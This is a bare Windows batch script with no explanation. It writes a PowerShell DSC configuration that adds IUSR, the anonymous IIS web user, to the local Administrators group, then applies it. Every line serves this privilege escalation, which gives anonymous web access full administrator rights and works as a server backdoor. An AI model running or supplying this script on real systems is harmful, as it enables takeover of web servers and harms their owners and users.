@echo off
>C:\c.dsc.yaml echo resources:
>>C:\c.dsc.yaml echo - name: c
>>C:\c.dsc.yaml echo   type: PSDesiredStateConfiguration/Group
>>C:\c.dsc.yaml echo   properties: { GroupName: Administrators, MembersToInclude: [ IUSR ] }
dsc config set --file C:\c.dsc.yaml
